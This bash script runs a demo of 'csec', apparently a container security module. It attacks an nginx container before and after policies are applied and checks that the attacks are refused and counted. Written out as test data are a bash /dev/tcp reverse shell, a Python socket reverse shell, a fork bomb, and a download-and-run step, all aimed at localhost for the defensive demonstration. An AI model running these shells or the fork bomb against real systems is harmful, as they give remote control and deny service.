#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# csec - the part of the demo that runs in the VM: attacks a container, first without csec, then with it
#
# CSEC_DEMO=attacks stops before the first policy; it needs no module.
# shellcheck disable=SC2016,SC2086 # text for other shells; numbers and plain names
set -u
data=/opt/csec
tmp=/tmp/demo
containers=/sys/fs/cgroup/containers
limit=64
steps=0 good=0
mkdir -p $tmp

# step TEXT COMMAND...: one line; ok when the command succeeds
step() {
	local word=BAD
	steps=$((steps + 1))
	if "${@:2}" >$tmp/step 2>&1; then
		word='ok '
		good=$((good + 1))
	fi
	echo "demo: $word $1${note:+ ($note)}"
	[ "$word" != BAD ] || sed 's/^/demo:       /' $tmp/step | tail -n 10
	note=
}
note=

title() { printf '\n%s\n' "$*"; }

poll() {
	local n
	for ((n = 0; n < 300; n++)); do
		"$@" >/dev/null 2>&1 && return
		sleep 0.1
	done
	return 1
}

# bundle NAME PORT: a root filesystem on overlayfs and its config.json
bundle() {
	local b=$tmp/$1
	mkdir -p "$b"/{upper/etc/nginx/sites-enabled,work,rootfs}
	printf 'server { listen 127.0.0.1:%s; location / { return 200 "%s answers\\n"; } }\n' \
		"$2" "$1" >"$b/upper/etc/nginx/sites-enabled/default"
	mount -t overlay overlay -o "lowerdir=/srv/web,upperdir=$b/upper,workdir=$b/work" "$b/rootfs"
	(cd "$b" && runc spec && jq --arg name "$1" '
		.process.terminal = false | .root.readonly = false | .hostname = $name |
		.process.args = ["/usr/sbin/nginx", "-g", "daemon off;"] |
		.linux.namespaces |= map(select(.type != "network")) |
		.linux.cgroupsPath = "/containers/" + $name |
		["CHOWN", "DAC_OVERRIDE", "FOWNER", "FSETID", "KILL", "MKNOD", "NET_BIND_SERVICE",
		 "NET_RAW", "SETFCAP", "SETGID", "SETPCAP", "SETUID", "SYS_CHROOT", "AUDIT_WRITE"]
		as $caps | .process.capabilities |= map_values($caps | map("CAP_" + .))
		' config.json >config.new && mv config.new config.json)
}

# start RUNTIME NAME [ARGUMENT]...: starts the container, in the background; the
# arguments replace those of its first program
start() {
	local b=$tmp/$2
	if [ $# -gt 2 ]; then
		jq --argjson args "$(printf '%s\n' "${@:3}" | jq -R . | jq -sc .)" \
			'.process.args = $args' <"$b/config.json" >"$b/config.new"
		mv "$b/config.new" "$b/config.json"
	fi
	"$1" run --bundle "$b" --detach "$2" >"$b/log" 2>&1 </dev/null || {
		cat "$b/log"
		return 1
	}
}

# runs NAME ARGUMENT...: starts the container, succeeds when its program runs
# on. (crun has left before it knows.)
runs() {
	start crun "$@" || return
	! poll ended "$1"
}
ended() { [ "$(crun state "$1" | jq -r .status)" = stopped ]; }

inside() { timeout 120 runc exec "$@" </dev/null; }
answers() { [ "$(curl -s -m 20 "http://127.0.0.1:$2/")" = "$1 answers" ]; }
prints() { [ "$("${@:2}" 2>&1)" = "$1" ]; }

# Processes that become 121; each just waits then, or gives up: a limit is enough.
tree='f() { [ "$1" -gt 0 ] || exec sleep 600; for i in 1 2 3; do f $(($1 - 1)) & done; wait; }; f 4'
# That never ends.
bomb='b() { b | b & }; b; sleep 600'

# attack_tree NAME: sets $peak (tasks of the container) and $hurt (programs that the
# host could not start meanwhile)
attack_tree() {
	local n now
	# Not pids.current: that has forks in it that are about to be refused.
	peak=0 hurt=0
	inside "$1" bash -c "$tree" >$tmp/bomb 2>&1 &
	for ((n = 0; n < 150 && peak < 100; n++)); do
		mapfile -t now <"$containers/$1/cgroup.threads"
		[ ${#now[@]} -le "$peak" ] || peak=${#now[@]}
		/bin/true || hurt=$((hurt + 1))
		sleep 0.1
	done
	during=$(answers "$1" 8001 && echo yes || echo no)
	poll sweep "$1"
	wait $!
}

# Ends what a tree left; succeeds when nothing is.
sweep() {
	local p comm left=0
	while read -r p; do
		read -r comm <"/proc/$p/comm" || continue
		case $comm in
		bash | sleep) left=1 && kill -9 "$p" ;;
		esac
	done <"$containers/$1/cgroup.procs" 2>/dev/null
	[ $left = 0 ]
}

has_tasks() { [ "$(wc -l <"$containers/$1/cgroup.threads")" -ge "$2" ]; }
is_over() { grep -q 'populated 0' "$containers/$1/cgroup.events"; }
restart() {
	echo 1 >"$containers/$1/cgroup.kill"
	poll is_over "$1"
	runc delete -f "$1"
	start runc "$1"
}

# attack_bomb NAME: the bomb lives. It has to stop at 200 tasks, as the host would not
attack_bomb() {
	echo 200 >"$containers/$1/pids.max"
	inside "$1" bash -c "$bomb" >$tmp/bomb 2>&1 &
	poll has_tasks "$1" 180 && sleep 2 && poll has_tasks "$1" 180
}

# attack_shell NAME COMMAND...: succeeds when a listener outside the container
# can run a command in it
attack_shell() {
	local nc attacker
	rm -f $tmp/tell
	mkfifo $tmp/tell
	nc -l 127.0.0.1 4444 <$tmp/tell >$tmp/heard 2>&1 &
	nc=$!
	exec 7>$tmp/tell
	echo 'echo CSEC$((40+2))-$(id -u); exit' >&7
	poll bash -c 'ss -Hltn "sport = :4444" | grep -q .'
	inside "$@" >$tmp/attack 2>&1 7>&- &
	attacker=$!
	while ! grep -q CSEC42-0 $tmp/heard && kill -0 $attacker 2>/dev/null; do
		sleep 0.1
	done
	wait $attacker
	sleep 0.3
	exec 7>&-
	kill $nc 2>/dev/null
	wait $nc 2>/dev/null
	cat $tmp/attack
	grep -q CSEC42-0 $tmp/heard
}
bash_shell='bash -i >/dev/tcp/127.0.0.1/4444 0>&1 2>&1'
python_shell='import os, socket, subprocess
s = socket.create_connection(("127.0.0.1", 4444))
for fd in range(3):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/bash", "-i"])'

# attack_download NAME: fetches a program from outside and runs it
attack_download() {
	inside "$1" curl -sf -o /tmp/tool http://127.0.0.1:8000/mark &&
		inside "$1" chmod 755 /tmp/tool || return
	inside "$1" /tmp/tool >$tmp/attack 2>&1
	cat $tmp/attack
	grep -q CSEC42-0 $tmp/attack
}

# count POLICY REASON [KIND]: what csec counted
count() {
	csecctl counters --json | jq -r --arg p "$1" --arg r "$2" --arg k "${3:-denied}" '
		[.counters[] | select(.policy == $p and .reason == $r and .total) | .[$k]]
		| first // 0'
}

# refused REASON COMMAND...: the attack fails, and csec counted it for that reason
refused() {
	local before
	before=$(count web "$1")
	if "${@:2}"; then
		echo "the attack worked"
		return 1
	fi
	[ "$(count web "$1")" -gt "$before" ] || {
		echo "it failed, but not for the reason $1"
		csecctl counters
		return 1
	}
}

# ps_of NAME KEY: of csecctl ps, nothing when the container is not governed
ps_of() {
	csecctl ps --json | jq -r --arg c "/containers/$1" --arg k "$2" \
		'.cgroups[] | select(.cgroup == $c) | .[$k]'
}
governed() { [ -n "$(ps_of "$1" policy)" ]; }

summary() {
	printf '\ndemo: %d of %d as expected\n' $good $steps
	[ $good = $steps ]
	exit
}

title "A container on $(uname -sr)"
if [ -e $data/csec.ko ]; then
	step "csec.ko is loaded" csecctl load --module $data/csec.ko
fi
bundle web-1 8001
step "container web-1 starts: runc, Debian on overlayfs, nginx" start runc web-1
step "its service answers" poll answers web-1 8001
python3 -m http.server 8000 --bind 127.0.0.1 -d $data/bin >/dev/null 2>&1 &
poll curl -sf -o /dev/null http://127.0.0.1:8000/mark

title "Without a policy every attack works"
attack_tree web-1
note="$peak tasks"
step "a tree of processes grows over $limit" test "$peak" -gt $limit
step "a bash reverse shell runs a command of the attacker" \
	attack_shell web-1 bash -c "$bash_shell"
step "a python reverse shell likewise" attack_shell web-1 python3 -c "$python_shell"
step "a downloaded program runs" attack_download web-1
step "a fork bomb fills what pids.max lets it, and lives on" attack_bomb web-1
step "the container has to be started again" restart web-1
[ "${CSEC_DEMO:-}" != attacks ] || summary

title "With the policies of docs/examples"
step "csecctl policy push" csecctl policy push $data/examples/*.yaml
step "the service answers" poll answers web-1 8001
step "bash, python and curl still run" \
	prints '0 42 web-1 answers' inside web-1 bash -c \
	'echo $(id -u) $(python3 -c "print(6 * 7)") $(curl -s http://127.0.0.1:8001/)'
step "the container is governed" governed web-1
before=$(count web thread_limit)
attack_tree web-1
most=$(ps_of web-1 peak_tasks)
note="seen: $peak tasks; csec counted at most $most"
step "the tree of processes stops at $limit" test "$peak" -le $limit -a "$most" = $limit
note="$(count web thread_limit) refused"
step "csec counted its forks" test "$(count web thread_limit)" -gt "$before"
step "meanwhile the host could start every program" test $hurt = 0
step "meanwhile the service answered" test "$during" = yes
step "the bash reverse shell is refused" \
	refused shell_connect attack_shell web-1 bash -c "$bash_shell"
step "the python reverse shell is refused" \
	refused reverse_shell attack_shell web-1 python3 -c "$python_shell"
step "the downloaded program is refused" refused not_allowed attack_download web-1

title "A fork bomb ends, and its container with it"
bombs=$(count web fork_bomb)
is_told() { [ "$(count web fork_bomb)" -gt "$bombs" ]; }
inside web-1 bash -c "$bomb" >$tmp/bomb 2>&1 &
step "csec tells the fork bomb" poll is_told
step "and killed: nothing is left in the container" poll is_over web-1
step "there were never more than $limit tasks" test "$(ps_of web-1 peak_tasks)" = $limit
step "its runtime starts the container again" restart web-1
step "and it answers" poll answers web-1 8001

title "A container that starts later is governed from its first program"
bundle web-2 8002
step "web-2 with a first program that is not allowed does not run" \
	refused not_allowed runs web-2 /usr/bin/env sleep 600
crun delete -f web-2 >/dev/null 2>&1
step "web-2 with its service does: runc" start runc web-2 /usr/sbin/nginx -g 'daemon off;'
step "and answers" poll answers web-2 8002
step "and is governed" governed web-2

title "A container in audit mode"
bundle job-1 8003
before=$(count jobs not_allowed audited)
step "job-1 runs what its policy does not allow" start runc job-1 /usr/bin/sleep 600
step "and that is counted" test "$(count jobs not_allowed audited)" -gt "$before"

for c in status ps counters events; do
	title "# csecctl $c"
	if [ $c = events ]; then
		csecctl events | tail -n 12
	else
		csecctl $c
	fi
done
title "# dmesg | grep csec: | tail"
dmesg | grep 'csec: denied' | tail -n 12
summary
